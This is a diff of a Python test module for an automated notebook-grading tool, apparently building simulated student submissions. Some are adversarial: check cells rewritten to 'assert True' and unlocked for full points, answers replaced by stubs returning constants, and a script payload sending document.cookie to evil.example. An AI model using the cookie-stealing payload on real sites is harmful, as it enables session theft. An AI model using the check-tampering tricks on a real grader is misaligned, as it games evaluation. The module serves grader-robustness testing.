@@ -10,7 +10,8 @@ from datetime import datetime, timedelta
 
 import nbformat
 
-from grading.verdict import regions
+from grading.course.cells import SOLUTION, is_answer, is_check, label, named, split_regions, without
+from grading.verdict import analysis
 
 DUE = "2026-03-31 23:59"
 AT = datetime(2026, 3, 30, 12)
@@ -18,6 +19,8 @@ AT = datetime(2026, 3, 30, 12)
 
 @dataclass(frozen=True)
 class Person:
+    """One of the class, and what they do."""
+
     name: str
     story: str
     email: str = ""
@@ -99,8 +102,9 @@ SCRIPT = """<script>fetch('//evil.example/' + document.cookie)</script>
 
 
 def write_roster(file):
+    """Write the class as a teacher has it."""
     with open(file, "w", encoding="utf-8", newline="") as out:
-        rows = [(it, person.name, f"{it}@uni.example") for it, person in PEOPLE.items()]
+        rows = [(student, person.name, f"{student}@uni.example") for student, person in PEOPLE.items()]
         csv.writer(out).writerows([("id", "name", "email"), *rows])
 
 
@@ -138,6 +142,7 @@ def files(desk, name):
 
 
 def moodle(person, number, name):
+    """The name that Moodle gives a file."""
     return f"{person}_{number}_assignsubmission_file_{name}.ipynb"
 
 
@@ -147,17 +152,16 @@ class Desk:
     def __init__(self, release, source):
         self.release = release
         self.right, self.kinds, self.stubs = {}, {}, {}
-        for cell in source.cells:
-            about = cell.metadata.get("nbgrader", {})
-            if about.get("solution"):
-                name = about["grade_id"]
-                self.right[name] = "\n".join(it for it in cell.source.splitlines() if "### " not in it)
-                self.kinds[name], self.stubs[name] = cell.cell_type, regions.without(cell.source, "SOLUTION")
+        for name, cell in named(source).items():
+            if is_answer(cell):
+                self.right[name] = "\n".join(line for piece in split_regions(cell.source) for line in piece.lines)
+                self.kinds[name], self.stubs[name] = cell.cell_type, without(cell.source, SOLUTION)
 
     def fill(self, answers):
+        """The released notebook with these answers, by grade_id."""
         notebook = copy.deepcopy(self.release)
         for cell in notebook.cells:
-            cell.source = answers.get(cell.metadata.get("nbgrader", {}).get("grade_id"), cell.source)
+            cell.source = answers.get(label(cell), cell.source)
         return notebook
 
     def code(self, change):
@@ -165,18 +169,20 @@ class Desk:
         return {name: change(text) if self.kinds[name] == "code" else text for name, text in self.right.items()}
 
     def first_half(self):
+        """The first half of the right answers."""
         names = list(self.right)
         return {name: self.right[name] for name in names[: len(names) // 2]}
 
     def words(self, text=None):
+        """All written answers: the right ones, or ``text``."""
         return {name: text or self.right[name] for name, kind in self.kinds.items() if kind == "markdown"}
 
     def instead(self, code, value):
         """In place of every answer in code: ``code``, and whatever is asked for is ``value``."""
         answers = {}
-        for name in [it for it, kind in self.kinds.items() if kind == "code"]:
+        for name in [name for name, kind in self.kinds.items() if kind == "code"]:
             lines = []
-            for defined, node in regions.definitions(self.stubs[name]).items():
+            for defined, node in analysis.definitions(self.stubs[name]).items():
                 function = type(node).__name__ in ("FunctionDef", "ClassDef")
                 lines.append(f"def {defined}(*_, **__):\n    return {value}" if function else f"{defined} = {value}")
             answers[name] = "\n\n\n".join([*lines, code] if value == "0" else [code, *lines])
@@ -194,6 +200,7 @@ def without_labels(notebook):
 
 
 def talkative(notebook):
+    """With cells between the others that warn and print."""
     notebook = copy.deepcopy(notebook)
     chat = "import sys\nimport warnings\n\nwarnings.warn('hm')\nprint('so far so good', file=sys.stderr)"
     for at in range(len(notebook.cells), 0, -3):
@@ -204,9 +211,7 @@ def talkative(notebook):
 def without_checks(notebook):
     """Checks that were rewritten, unlocked, copied and deleted."""
     notebook = copy.deepcopy(notebook)
-    about = [(it, it.metadata.get("nbgrader", {})) for it in notebook.cells]
-    checks = [cell for cell, it in about if it.get("grade") and not it.get("solution")]
-    for number, cell in enumerate(checks):
+    for number, cell in enumerate([cell for cell in notebook.cells if is_check(cell)]):
         cell.source = "assert True"
         cell.metadata.nbgrader.update(points=100, locked=False)
         if number % 3 == 1:
